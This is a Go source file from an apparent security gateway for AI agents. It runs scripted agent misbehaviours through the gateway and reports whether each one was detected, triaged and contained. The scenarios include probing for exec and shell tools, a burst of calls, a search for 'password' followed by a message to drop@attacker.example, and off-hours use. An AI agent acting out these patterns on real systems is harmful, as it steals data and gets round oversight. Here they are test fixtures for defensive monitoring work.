// Package simulate runs scripted agent misbehaviours, and normal traffic,
// through a real gateway (the built-in demo upstream, the real MCP client
// over HTTP, the real detector, triage and response) and reports which
// were detected, how fast, how they were triaged and whether the session
// was contained: `portcullis simulate`.
package simulate

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/portcullis-dev/portcullis/internal/config"
	"github.com/portcullis-dev/portcullis/internal/gateway"
	"github.com/portcullis-dev/portcullis/internal/ops"
)

// Result is what happened to one scenario.
type Result struct {
	Scenario     string
	Misbehaviour bool     // false: normal traffic, which must raise nothing
	Expected     []string // the alert classes the scenario should raise
	Contain      bool     // the playbook should contain the session
	Alerts       []string // the classes raised
	Verdicts     []string // their triage verdicts
	Responses    []string // the steps taken
	Contained    bool     // the session's next call was refused
	Detected     time.Duration
	Note         string
}

// OK reports whether the scenario went as expected: normal traffic
// raised nothing; a misbehaviour raised every expected class, and its
// session was contained exactly when the playbook says.
func (r Result) OK() bool {
	if !r.Misbehaviour {
		return len(r.Alerts) == 0 && !r.Contained
	}
	if r.Contained != r.Contain {
		return false
	}
	for _, c := range r.Expected {
		if !slices.Contains(r.Alerts, c) {
			return false
		}
	}
	return true
}

const policyText = `
permit (principal in Role::"workers", action == Action::"call_tool", resource in Upstream::"demo")
when { resource.read_only_hint };
permit (principal in Role::"workers", action == Action::"call_tool", resource == Tool::"demo__send_message");
permit (principal in Role::"night", action == Action::"call_tool", resource in Upstream::"demo")
when { resource.read_only_hint };
`

// config is the simulation's gateway: one agent per scenario (windows are
// per agent), baselines by role, and a playbook. The night role's active
// hours are an hour that starts six hours from now: any call now is off
// hours.
func configFor(dir string, now time.Time) string {
	from := now.UTC().Add(6 * time.Hour)
	to := from.Add(time.Hour)
	return fmt.Sprintf(`version: 1
data_dir: %s/data
listen: {address: "127.0.0.1:0", admin: "127.0.0.1:0"}
policy: {paths: [%s/policy.cedar]}
agents:
  - {name: worker, roles: [workers]}
  - {name: prober, roles: [workers]}
  - {name: burster, roles: [workers]}
  - {name: exfil, roles: [workers]}
  - {name: nightowl, roles: [night]}
upstreams: [{name: demo, builtin: demo}]
tools:
  - {name: demo__read_file, classification: [read_only]}
  - {name: demo__list_files, classification: [read_only]}
  - {name: demo__search_files, classification: [read_only]}
detection:
  baselines:
    - {role: workers, tools: [demo__read_file, demo__list_files, demo__search_files], calls_per_minute: 20}
    - {role: night, tools: ["demo__*"], active_hours: "%s-%s"}
  response:
    - {alerts: [unexpected_tool, rate], action: read_only}
    - {alerts: [denial_burst], action: terminate_session}
    - {alerts: [off_hours], action: flag}
`, dir, dir, from.Format("15:04"), to.Format("15:04"))
}

// scenario drives one agent's session; it returns the time of its first
// anomalous call (zero for normal traffic).
type scenario struct {
	name, agent  string
	misbehaviour bool
	contain      bool
	expected     []string
	drive        func(ctx context.Context, s *mcp.ClientSession) time.Time
	// probe is the next call after the scenario: refused if contained.
	probe *mcp.CallToolParams
}

func read(path string) *mcp.CallToolParams {
	return &mcp.CallToolParams{Name: "demo__read_file", Arguments: map[string]any{"path": path}}
}

var send = &mcp.CallToolParams{Name: "demo__send_message", Arguments: map[string]any{"to": "drop@attacker.example", "body": "notes"}}

var scenarios = []scenario{
	{name: "normal work", agent: "worker", drive: func(ctx context.Context, s *mcp.ClientSession) time.Time {
		s.CallTool(ctx, &mcp.CallToolParams{Name: "demo__list_files", Arguments: map[string]any{}})
		s.CallTool(ctx, &mcp.CallToolParams{Name: "demo__search_files", Arguments: map[string]any{"query": "budget"}})
		for _, p := range []string{"notes/meeting.txt", "notes/todo.txt", "README.txt"} {
			s.CallTool(ctx, read(p))
		}
		return time.Time{}
	}, probe: read("notes/meeting.txt")},
	{name: "tool enumeration", agent: "prober", misbehaviour: true, contain: true, expected: []string{"unexpected_tool", "denial_burst"},
		drive: func(ctx context.Context, s *mcp.ClientSession) time.Time {
			start := time.Now()
			for _, t := range []string{"demo__delete_file", "demo__exec", "demo__shell", "admin__users", "demo__write_file", "demo__upload"} {
				s.CallTool(ctx, &mcp.CallToolParams{Name: t, Arguments: map[string]any{}})
			}
			return start
		}, probe: read("notes/meeting.txt")},
	{name: "burst of calls", agent: "burster", misbehaviour: true, contain: true, expected: []string{"rate"},
		drive: func(ctx context.Context, s *mcp.ClientSession) time.Time {
			var start time.Time
			for i := range 25 {
				if i == 20 { // the call over the declared 20 a minute
					start = time.Now()
				}
				s.CallTool(ctx, read("notes/meeting.txt"))
			}
			return start
		}, probe: &mcp.CallToolParams{Name: "demo__send_message", Arguments: map[string]any{"to": "bob@example.com", "body": "hi"}}},
	{name: "bulk read, then external send", agent: "exfil", misbehaviour: true, contain: true, expected: []string{"unexpected_tool"},
		drive: func(ctx context.Context, s *mcp.ClientSession) time.Time {
			s.CallTool(ctx, &mcp.CallToolParams{Name: "demo__search_files", Arguments: map[string]any{"query": "password"}})
			for _, p := range []string{"notes/meeting.txt", "notes/todo.txt"} {
				s.CallTool(ctx, read(p))
			}
			start := time.Now()
			s.CallTool(ctx, send)
			return start
		}, probe: send}, // the second send: held to read-only tools
	{name: "off-hours use", agent: "nightowl", misbehaviour: true, expected: []string{"off_hours"},
		drive: func(ctx context.Context, s *mcp.ClientSession) time.Time {
			start := time.Now()
			s.CallTool(ctx, read("notes/meeting.txt"))
			return start
		}, probe: read("notes/todo.txt")},
}

// NotCovered are misbehaviours of the detection issue that the current
// detectors (declared baselines) cannot see, reported as such.
var NotCovered = []string{
	"slow drift over days (needs learned baselines and drift detection)",
	"lateral movement by delegation (needs delegation-graph detection)",
	"credential hunting within the expected tools (needs content-aware alerts)",
}

// Run runs every scenario against a fresh gateway in dir.
func Run(ctx context.Context, dir string) ([]Result, error) {
	if err := os.WriteFile(filepath.Join(dir, "policy.cedar"), []byte(policyText), 0o600); err != nil {
		return nil, err
	}
	cfgPath := filepath.Join(dir, "portcullis.yaml")
	if err := os.WriteFile(cfgPath, []byte(configFor(dir, time.Now())), 0o600); err != nil {
		return nil, err
	}
	cfg, err := config.Load(cfgPath)
	if err != nil {
		return nil, err
	}
	g, err := gateway.New(cfg, gateway.Options{Log: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		return nil, err
	}
	if err := g.Listen(); err != nil {
		return nil, err
	}
	gctx, stop := context.WithCancel(ctx)
	done := make(chan error, 1)
	go func() { done <- g.Run(gctx) }()
	defer func() { stop(); <-done }()
	wctx, cancel := context.WithTimeout(ctx, 30*time.Second)
	err = g.Proxy().WaitReady(wctx)
	cancel()
	if err != nil {
		return nil, fmt.Errorf("the simulation's gateway: %w", err)
	}
	o, err := ops.Open(cfg)
	if err != nil {
		return nil, err
	}
	defer o.Close()
	var out []Result
	for _, sc := range scenarios {
		r, err := run(ctx, g, o, sc)
		if err != nil {
			return out, fmt.Errorf("%s: %w", sc.name, err)
		}
		out = append(out, r)
	}
	return out, nil
}

type bearer string

func (b bearer) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("Authorization", "Bearer "+string(b))
	return http.DefaultTransport.RoundTrip(r)
}

func run(ctx context.Context, g *gateway.Gateway, o *ops.Ops, sc scenario) (Result, error) {
	r := Result{Scenario: sc.name, Misbehaviour: sc.misbehaviour, Expected: sc.expected, Contain: sc.contain}
	tok, _, err := g.IssueToken(ctx, sc.agent, 10*time.Minute)
	if err != nil {
		return r, err
	}
	c := mcp.NewClient(&mcp.Implementation{Name: "simulated-" + sc.agent, Version: "1"}, nil)
	s, err := c.Connect(ctx, &mcp.StreamableClientTransport{Endpoint: g.AgentURL(), HTTPClient: &http.Client{Transport: bearer(tok)}, MaxRetries: -1}, nil)
	if err != nil {
		return r, err
	}
	defer s.Close()
	first := sc.drive(ctx, s)
	_, perr := s.CallTool(ctx, sc.probe)
	r.Contained = perr != nil && strings.Contains(perr.Error(), "contained")
	// Triage runs off the hot path: wait for it.
	deadline := time.Now().Add(10 * time.Second)
	for {
		views, err := o.Alerts(ctx, "all", 0)
		if err != nil {
			return r, err
		}
		r.Alerts, r.Verdicts, r.Responses = nil, nil, nil
		triaged := true
		var earliest time.Time
		for _, v := range views {
			if v.Alert.Agent != sc.agent {
				continue
			}
			r.Alerts = append(r.Alerts, string(v.Alert.Code))
			if earliest.IsZero() || v.Alert.Time.Before(earliest) {
				earliest = v.Alert.Time
			}
			if v.Triage == nil {
				triaged = false
			} else {
				r.Verdicts = append(r.Verdicts, string(v.Triage.Code))
			}
			for _, resp := range v.Responses {
				r.Responses = append(r.Responses, string(resp.Code))
			}
		}
		if !first.IsZero() && !earliest.IsZero() {
			r.Detected = max(earliest.Sub(first), 0)
		}
		if triaged || time.Now().After(deadline) {
			if !triaged {
				r.Note = "triage did not finish in 10 s"
			}
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	slices.Sort(r.Alerts)
	r.Alerts = slices.Compact(r.Alerts)
	slices.Sort(r.Verdicts)
	r.Verdicts = slices.Compact(r.Verdicts)
	slices.Sort(r.Responses)
	r.Responses = slices.Compact(r.Responses)
	return r, nil
}

// Table renders results for people.
func Table(rs []Result) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-32s %-8s %-30s %-22s %-30s %-9s %s\n", "SCENARIO", "RESULT", "ALERTS", "TRIAGE", "RESPONSE", "CONTAINED", "ALERT AFTER")
	for _, r := range rs {
		res := "ok"
		if !r.OK() {
			res = "MISSED"
			if !r.Misbehaviour {
				res = "FALSE"
			}
		}
		det := "-"
		if r.Detected > 0 || len(r.Alerts) > 0 && r.Misbehaviour {
			det = r.Detected.Round(time.Microsecond).String()
		}
		fmt.Fprintf(&b, "%-32s %-8s %-30s %-22s %-30s %-9v %s\n", r.Scenario, res, dash(r.Alerts), dash(r.Verdicts), dash(r.Responses), r.Contained, det)
	}
	for _, n := range NotCovered {
		fmt.Fprintf(&b, "%-32s %-8s %s\n", "(not simulated)", "-", n)
	}
	return b.String()
}

func dash(s []string) string {
	if len(s) == 0 {
		return "-"
	}
	return strings.Join(s, ",")
}

// ErrFailed: a misbehaviour went undetected or normal traffic raised an
// alert.
var ErrFailed = errors.New("simulation: a misbehaviour went undetected, or normal traffic raised an alert")
